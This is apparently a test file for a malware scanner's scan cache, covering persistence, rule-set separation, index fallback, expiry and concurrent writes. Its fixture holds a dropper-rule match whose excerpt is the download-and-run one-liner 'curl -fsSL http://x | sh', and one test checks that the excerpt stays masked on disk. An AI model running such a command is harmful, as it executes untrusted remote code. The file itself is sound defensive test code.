// Tests for the scan cache: every kind of result comes back exactly as stored (nothing found, an
// executable's hash, matches), from a fresh process's point of view (a new ScanCache on the same
// file); a file in another state is a miss; past the index's size the rows alone answer; two scans
// writing at once never make the cache answer for a file state it did not see; other rule sets do
// not answer; the database keeps a copy of an index only when its file holds another rule set's;
// files no scan met for two weeks are forgotten.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cacheFiles, ScanCache } from './cache.js';
import { cleanAndUnchangedIn } from './file-index.js';
import type { FileResult } from './scan-job.js';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-cache-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const RULES = 'sha256:rules-a';
const key = (ino: number, mtimeMs = 1_700_000_000_123.456) => ({
  dev: 2049,
  ino,
  size: 100,
  mtimeMs,
  ctimeMs: mtimeMs,
});
const nothing: FileResult = { matches: [] };
const executable: FileResult = { matches: [], sha256: 'ab'.repeat(32), executable: true };
const matched: FileResult = {
  matches: [
    {
      rule: 'MH_Dropper_Download_And_Run',
      namespace: 'droppers',
      meta: { kind: 'dropper', level: 'high' },
      strings: [{ identifier: '$curl', offset: 42, excerpt: 'curl -fsSL http://x | sh' }],
      stringCount: 1,
    },
  ],
  sha256: 'cd'.repeat(32),
} as unknown as FileResult;

/** The walker's shortcut: the file is in the cache's index in this state with nothing found. */
function clean(
  c: ScanCache,
  dev: number,
  ino: number,
  size: number,
  mtimeMs: number,
  ctimeMs: number,
): boolean {
  const index = c.indexArrays();
  return index !== undefined && cleanAndUnchangedIn(index, dev, ino, size, mtimeMs, ctimeMs);
}

describe('scan cache', () => {
  it('gives back each kind of result exactly, to a later scan', () => {
    const file = path.join(dir, 'roundtrip.sqlite');
    const first = new ScanCache(file, RULES);
    first.put(key(1), nothing);
    first.put(key(2), executable);
    first.put(key(3), matched);
    first.close();

    const later = new ScanCache(file, RULES);
    expect(later.get(key(1))).toEqual(nothing);
    expect(later.get(key(2))).toEqual(executable);
    expect(later.get(key(3))).toEqual(matched);
    // The walker's shortcut answers only for "nothing found" in exactly this state.
    expect(clean(later, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
    expect(clean(later, 2049, 2, 100, key(2).mtimeMs, key(2).ctimeMs)).toBe(false);
    expect(clean(later, 2049, 1, 101, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
    expect(later.get(key(1, 5))).toBeUndefined();
    expect(later.get(key(4))).toBeUndefined();
    later.close();

    const otherRules = new ScanCache(file, 'sha256:rules-b');
    expect(otherRules.get(key(1))).toBeUndefined();
    expect(clean(otherRules, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
    otherRules.close();
  });

  it('keeps the matched excerpts out of the file, in clear and under any one-byte XOR key', () => {
    const file = path.join(dir, 'masked.sqlite');
    const c = new ScanCache(file, RULES);
    c.put(key(1), matched);
    c.close();
    const bytes = Buffer.concat(
      cacheFiles(file)
        .filter((f) => existsSync(f))
        .map((f) => readFileSync(f)),
    );
    expect(existsSync(`${file}-index`)).toBe(true);
    const excerpt = Buffer.from('curl -fsSL http://x | sh');
    for (let k = 0; k < 256; k++) {
      const xored = Buffer.from(excerpt.map((b) => b ^ k));
      expect(bytes.includes(xored), `key ${k}`).toBe(false);
    }
    // And it still reads back.
    const later = new ScanCache(file, RULES);
    expect(later.get(key(1))).toEqual(matched);
    later.close();
  });

  it('answers an unchanged rescan from its index file alone, and falls back to the database', () => {
    const file = path.join(dir, 'fast.sqlite');
    const first = new ScanCache(file, RULES);
    first.put(key(1), nothing);
    first.put(key(3), matched);
    first.close();
    expect(existsSync(`${file}-index`)).toBe(true);

    // The database is not even opened: damaged, it would throw.
    const saved = readFileSync(file);
    writeFileSync(file, 'not a database');
    const fast = new ScanCache(file, RULES);
    expect(fast.get(key(1))).toEqual(nothing);
    expect(fast.get(key(3))).toEqual(matched);
    expect(clean(fast, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
    fast.close();
    writeFileSync(file, saved);

    // Another rule set's index file, or a damaged one, is not used: the database answers.
    const other = new ScanCache(file, 'sha256:rules-c');
    expect(other.get(key(1))).toBeUndefined();
    other.put(key(2), nothing);
    other.close();
    const back = new ScanCache(file, RULES);
    expect(back.get(key(3))).toEqual(matched);
    back.close();
    const index = readFileSync(`${file}-index`);
    writeFileSync(`${file}-index`, index.subarray(0, index.length - 3));
    const damaged = new ScanCache(file, RULES);
    expect(damaged.get(key(1))).toEqual(nothing);
    expect(damaged.get(key(3))).toEqual(matched);
    damaged.close();
  });

  it('answers from the rows alone once there are too many files for the index', () => {
    const file = path.join(dir, 'big.sqlite');
    const small = { indexMaxRows: 10 };
    const first = new ScanCache(file, RULES, small);
    for (let ino = 1; ino <= 20; ino++) first.put(key(ino), ino === 7 ? matched : nothing);
    first.close();
    const db = new Database(file, { readonly: true });
    expect((db.prepare('SELECT count(*) AS n FROM scan_index').get() as { n: number }).n).toBe(0);
    expect(existsSync(`${file}-index`)).toBe(false);
    db.close();

    const later = new ScanCache(file, RULES, small);
    expect(later.get(key(3))).toEqual(nothing);
    expect(later.get(key(7))).toEqual(matched);
    expect(later.get(key(7, 5))).toBeUndefined();
    // Without the index there is no shortcut: every file goes through get().
    expect(clean(later, 2049, 3, 100, key(3).mtimeMs, key(3).ctimeMs)).toBe(false);
    later.close();
  });

  it('keeps a large index in its file only, and rebuilds it from the rows when the file is lost', () => {
    const file = path.join(dir, 'large.sqlite');
    const large = { dbIndexMaxRows: 10 };
    const first = new ScanCache(file, RULES, large);
    for (let ino = 1; ino <= 20; ino++) first.put(key(ino), ino === 7 ? matched : nothing);
    first.close();
    const indexRows = (): number => {
      const db = new Database(file, { readonly: true });
      try {
        return (db.prepare('SELECT count(*) AS n FROM scan_index').get() as { n: number }).n;
      } finally {
        db.close();
      }
    };
    expect(indexRows()).toBe(0);
    expect(existsSync(`${file}-index`)).toBe(true);

    // The index file answers, with the walker's shortcut.
    const warm = new ScanCache(file, RULES, large);
    expect(warm.get(key(7))).toEqual(matched);
    expect(clean(warm, 2049, 3, 100, key(3).mtimeMs, key(3).ctimeMs)).toBe(true);
    warm.close();

    // Lost: the rows rebuild the same index (the shortcut too), and it is written back to its file.
    rmSync(`${file}-index`);
    const rebuilt = new ScanCache(file, RULES, large);
    expect(rebuilt.get(key(7))).toEqual(matched);
    expect(rebuilt.get(key(20))).toEqual(nothing);
    expect(rebuilt.get(key(7, 5))).toBeUndefined();
    expect(clean(rebuilt, 2049, 3, 100, key(3).mtimeMs, key(3).ctimeMs)).toBe(true);
    expect(clean(rebuilt, 2049, 7, 100, key(7).mtimeMs, key(7).ctimeMs)).toBe(false);
    rebuilt.close();
    expect(existsSync(`${file}-index`)).toBe(true);
    expect(indexRows()).toBe(0);

    // Another rule set takes the file over: an index this large is not copied into the database.
    const other = new ScanCache(file, 'sha256:rules-c', large);
    other.put(key(22), nothing);
    other.close();
    expect(indexRows()).toBe(0);
    const back = new ScanCache(file, RULES, large);
    expect(back.get(key(7))).toEqual(matched);
    back.close();
  });

  it('keeps no copy of the index in the database while its file holds it, only a displaced one', () => {
    const file = path.join(dir, 'copies.sqlite');
    // The rule sets (by their hash's prefix) whose index the database holds a copy of.
    const copies = (): string[] => {
      const db = new Database(file, { readonly: true });
      try {
        return (
          db
            .prepare('SELECT r.hash FROM scan_index i JOIN rulesets r ON r.id = i.rs ORDER BY r.hash')
            .all() as { hash: string }[]
        ).map((r) => r.hash.split(':').slice(0, 2).join(':'));
      } finally {
        db.close();
      }
    };
    const fileKey = (): string => {
      const bytes = readFileSync(`${file}-index`);
      return bytes
        .toString('utf8', 8, 8 + bytes.readUInt32LE(4))
        .split(':')
        .slice(0, 2)
        .join(':');
    };
    const first = new ScanCache(file, RULES);
    first.put(key(1), nothing);
    first.put(key(3), matched);
    first.close();
    // A later scan that meets a new file writes the file again, and still no copy (it cost a warm
    // default scan ~90 ms to write the whole index to SQLite each time).
    const second = new ScanCache(file, RULES);
    second.put(key(4), nothing);
    second.close();
    expect(copies()).toEqual([]);
    expect(fileKey()).toBe(RULES);

    // Another rule set takes the file over: the index it displaces is kept as that rule set's copy.
    const other = new ScanCache(file, 'sha256:rules-c');
    other.put(key(2), matched);
    other.close();
    expect(fileKey()).toBe('sha256:rules-c');
    expect(copies()).toEqual([RULES]);

    // Back to the first rule set: its copy answers, with the walker's shortcut; then its file holds
    // it again, its copy is dropped and the other rule set's is kept.
    const back = new ScanCache(file, RULES);
    expect(back.get(key(3))).toEqual(matched);
    expect(back.get(key(4))).toEqual(nothing);
    expect(clean(back, 2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
    back.close();
    expect(fileKey()).toBe(RULES);
    expect(copies()).toEqual(['sha256:rules-c']);
    const otherAgain = new ScanCache(file, 'sha256:rules-c');
    expect(otherAgain.get(key(2))).toEqual(matched);
    expect(otherAgain.get(key(1))).toBeUndefined();
    otherAgain.close();

    // Where the index file cannot be written, the database keeps this rule set's copy instead.
    const blocked = `${file}-index.${process.pid}.tmp`;
    mkdirSync(blocked);
    try {
      const unwritable = new ScanCache(file, RULES);
      unwritable.put(key(5), nothing);
      unwritable.close();
    } finally {
      rmSync(blocked, { recursive: true });
    }
    expect(fileKey()).toBe('sha256:rules-c');
    expect(copies()).toEqual([RULES, 'sha256:rules-c']);
    const fromCopy = new ScanCache(file, RULES);
    expect(clean(fromCopy, 2049, 5, 100, key(5).mtimeMs, key(5).ctimeMs)).toBe(true);
    fromCopy.close();
  });

  it('forgets the files no scan met for two weeks, in its index and its rows, and keeps the others', () => {
    const file = path.join(dir, 'expiry.sqlite');
    const DAY = 86_400_000;
    let now = Date.UTC(2026, 0, 1, 12);
    const open = (): ScanCache => new ScanCache(file, RULES, { now: () => now });
    const first = open();
    for (const ino of [1, 2, 3, 4]) first.put(key(ino), ino === 4 ? matched : nothing);
    first.close();
    // Ten days on, a scan meets file 1 by a lookup and file 2 by the walker's shortcut.
    now += 10 * DAY;
    const later = open();
    expect(later.get(key(1))).toEqual(nothing);
    expect(clean(later, 2049, 2, 100, key(2).mtimeMs, key(2).ctimeMs)).toBe(true);
    later.close();
    // Twenty days after the first scan: files 3 and 4 were met by none for longer than two weeks.
    now += 10 * DAY;
    open().close();
    const rows = (): number[] => {
      const db = new Database(file, { readonly: true });
      try {
        return (db.prepare('SELECT ino FROM scan_v3 ORDER BY ino').all() as { ino: number }[]).map(
          (r) => r.ino,
        );
      } finally {
        db.close();
      }
    };
    expect(rows()).toEqual([1, 2]);
    const after = open();
    expect(after.get(key(1))).toEqual(nothing);
    expect(after.get(key(2))).toEqual(nothing);
    expect(after.get(key(3))).toBeUndefined();
    expect(after.get(key(4))).toBeUndefined();
    after.close();
    // Without its index file the rows rebuild the same index: the forgotten files stay forgotten.
    rmSync(`${file}-index`);
    const rebuilt = open();
    expect(rebuilt.get(key(3))).toBeUndefined();
    expect(rebuilt.get(key(1))).toEqual(nothing);
    rebuilt.close();
    // A later scan that meets file 1 again keeps it however long ago it was stored.
    now += 13 * DAY;
    const again = open();
    expect(again.get(key(1))).toEqual(nothing);
    again.close();
    now += 13 * DAY;
    open().close();
    expect(rows()).toEqual([1]);
  });

  it('never answers for a state it did not see when two scans write at once', () => {
    const file = path.join(dir, 'concurrent.sqlite');
    const seed = new ScanCache(file, RULES);
    seed.put(key(1, 1000), nothing);
    seed.close();
    // Both open the same stored index; each sees file 1 in a different state.
    const a = new ScanCache(file, RULES);
    const b = new ScanCache(file, RULES);
    a.put(key(1, 2000), nothing);
    b.put(key(1, 3000), matched);
    b.put(key(7), executable);
    b.close();
    a.close(); // last to close: its index (without b's entries) is the stored one

    const c = new ScanCache(file, RULES);
    // a's state: nothing found, which is what a scan of that state found.
    expect(c.get(key(1, 2000))).toEqual(nothing);
    // b's state: whatever answers must be b's result, never a's "nothing found".
    const forB = c.get(key(1, 3000));
    if (forB) expect(forB).toEqual(matched);
    expect(clean(c, 2049, 1, 100, 3000, 3000)).toBe(false);
    // The first state is gone.
    expect(c.get(key(1, 1000))).toBeUndefined();
    // b's other file: its result or a miss (the file is scanned again), never something else.
    const seven = c.get(key(7));
    if (seven) expect(seven).toEqual(executable);
    c.close();
  });
});
